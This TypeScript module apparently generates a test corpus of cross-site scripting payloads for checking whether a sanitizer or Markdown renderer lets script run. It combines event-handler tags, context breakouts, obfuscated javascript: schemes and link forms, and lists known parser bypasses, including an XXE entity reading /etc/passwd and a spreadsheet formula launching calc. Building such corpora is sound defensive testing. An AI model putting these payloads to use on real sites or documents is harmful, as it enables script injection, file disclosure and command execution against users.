/** What an attack would run: a test in a browser can see that it did. */
const RUN = 'window.__xss=1';

const EVENTS =
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationstart onpageshow'.split(
    ' ',
  );

const ELEMENTS = (
  'img src=x|svg|body|video src=x|audio src=x|input autofocus|details open|iframe|object data=x|embed src=x|' +
  'marquee|a href=# autofocus|button autofocus|select autofocus|textarea autofocus|form|math|style|link href=x|' +
  'animate|image src=x|xss tabindex=0 autofocus|template|frameset|source src=x|track src=x|keygen autofocus|p'
).split('|');

/** Before and behind an attack: out of what it may stand in. */
const BREAKS: readonly [string, string][] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['</p>', ''],
  ['</script>', ''],
  ['-->', ''],
  [']]>', ''],
  ['</textarea></title></style></noscript>', ''],
  ['<!--', '-->'],
  ['<![CDATA[', ']]>'],
  ['`', '`'],
  ['```html\n', '\n```'],
  ['> ', ''],
  ['- ', ''],
  ['**', '**'],
  ['[', '](https://a.example)'],
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61;vascript:',
  'javascript\u200b:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'blob:',
  'file:///',
  'view-source:javascript:',
  '//evil.example/',
  '\\javascript:',
];

/** Ways in which Markdown holds an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "onmouseover=${RUN}")`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n[x]`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<style>*{background:url(${address})}</style>`,
  (address) => `https://a.example/"${address}`,
];

/** What parsers of HTML, XML, JSON, style sheets and tables of figures have been deceived with. */
const ODD = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x>x</a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN} />#x" />`,
  `<template><script>${RUN}</script></template>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script/x>`,
  `<<script>${RUN}//<</script>`,
  `\u202e<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `{"a":"</script><script>${RUN}</script>"}`,
  `\u2028${RUN}\u2029`,
  `'-(${RUN})-'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{${RUN}}`,
  `<Callout>{${RUN}}</Callout>`,
  `export const x = ${RUN}`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `=HYPERLINK("javascript:${RUN}")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `<form id=body><input name=innerHTML>`,
  `<img name=getElementById><a id=location href=javascript:${RUN}>`,
  `<p class="comment-owner" id="said" style="position:fixed;inset:0">x</p>`,
  `\`\`\`" onmouseover="${RUN}\nx\n\`\`\``,
  `~~~ts onload=${RUN}\n</code></pre><script>${RUN}</script>\n~~~`,
];

/** A thousand and more ways in which people have had others' browsers run their words, each another text. */
export function xssPayloads(): string[] {
  const tags = ELEMENTS.flatMap((element) => [
    ...EVENTS.map((event) => `<${element} ${event}=${RUN}>`),
    `<${element.replace(' ', '/')}/${EVENTS[0]}="${RUN}">`,
  ]);
  const scripts = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg/onload=${RUN}>`];
  const broken = BREAKS.flatMap(([before, behind]) =>
    [...scripts, ...tags.filter((_, n) => n % 9 === 0)].map((tag) => before + tag + behind),
  );
  const links = SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme + RUN)));
  return [...new Set([...tags, ...broken, ...links, ...ODD])];
}
